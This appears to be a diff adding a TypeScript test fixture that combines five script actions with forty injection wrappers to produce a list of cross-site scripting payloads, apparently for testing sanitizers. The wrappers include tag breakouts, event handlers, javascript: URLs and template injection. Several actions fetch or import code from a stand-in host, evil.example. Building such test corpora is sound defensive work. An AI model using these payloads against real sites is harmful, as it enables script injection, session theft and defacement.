@@ -1,0 +1,55 @@
+/** What each would do if it were executed: it leaves a mark, opens a dialog, or asks another origin. */
+const deeds = [
+  'globalThis.executed=1',
+  'alert(1)',
+  "fetch('https://evil.example/')",
+  "import('https://evil.example/x.js')",
+  "document.body.innerHTML=''",
+];
+
+/** Ways by which a text has become a script somewhere. */
+const ways: readonly ((deed: string) => string)[] = [
+  (deed) => `<script>${deed}</script>`,
+  (deed) => `"><script>${deed}</script>`,
+  (deed) => `'><script>${deed}</script>`,
+  (deed) => `</script><script>${deed}</script>`,
+  (deed) => `</title><script>${deed}</script>`,
+  (deed) => `</textarea><script>${deed}</script>`,
+  (deed) => `</style><script>${deed}</script>`,
+  (deed) => `<!--><script>${deed}</script>-->`,
+  (deed) => `<ScRiPt>${deed}</sCrIpT>`,
+  (deed) => `<scr<script>ipt>${deed}</scr</script>ipt>`,
+  (deed) => `<img src=x onerror=${deed}>`,
+  (deed) => `<img src="x" onerror="${deed}">`,
+  (deed) => `"><img src=x onerror=${deed}>`,
+  (deed) => `<img/src=x/onerror=${deed}>`,
+  (deed) => `<img src=https://evil.example/p onload=${deed}>`,
+  (deed) => `<svg onload=${deed}>`,
+  (deed) => `<svg><script>${deed}</script></svg>`,
+  (deed) => `<svg><animate onbegin=${deed} attributeName=x dur=1s>`,
+  (deed) => `<math><mtext><script>${deed}</script></mtext></math>`,
+  (deed) => `<body onload=${deed}>`,
+  (deed) => `<iframe srcdoc="<script>${deed}</script>"></iframe>`,
+  (deed) => `<iframe src="javascript:${deed}"></iframe>`,
+  (deed) => `<object data="javascript:${deed}"></object>`,
+  (deed) => `<embed src="javascript:${deed}">`,
+  (deed) => `<a href="javascript:${deed}">x</a>`,
+  (deed) => `javascript:${deed}`,
+  (deed) => `java\tscript:${deed}`,
+  (deed) => `data:text/html,<script>${deed}</script>`,
+  (deed) => `<details open ontoggle=${deed}>`,
+  (deed) => `<input autofocus onfocus=${deed}>`,
+  (deed) => `<video><source onerror=${deed}></video>`,
+  (deed) => `<audio src=x onerror=${deed}>`,
+  (deed) => `<style>@import 'https://evil.example/${deed.length}.css'</style>`,
+  (deed) => `<link rel=stylesheet href=https://evil.example/${deed.length}.css>`,
+  (deed) => `<base href=https://evil.example/><b>${deed}</b>`,
+  (deed) => `<meta http-equiv=refresh content="0;url=javascript:${deed}">`,
+  (deed) => `{{constructor.constructor('${deed}')()}}`,
+  (deed) => `\${${deed}}`,
+  (deed) => `<template><script>${deed}</script></template>`,
+  (deed) => `<noscript><p title="</noscript><img src=x onerror=${deed}>">`,
+];
+
+/** Forty ways to do five things. */
+export const payloads: readonly string[] = ways.flatMap((way) => deeds.map(way));
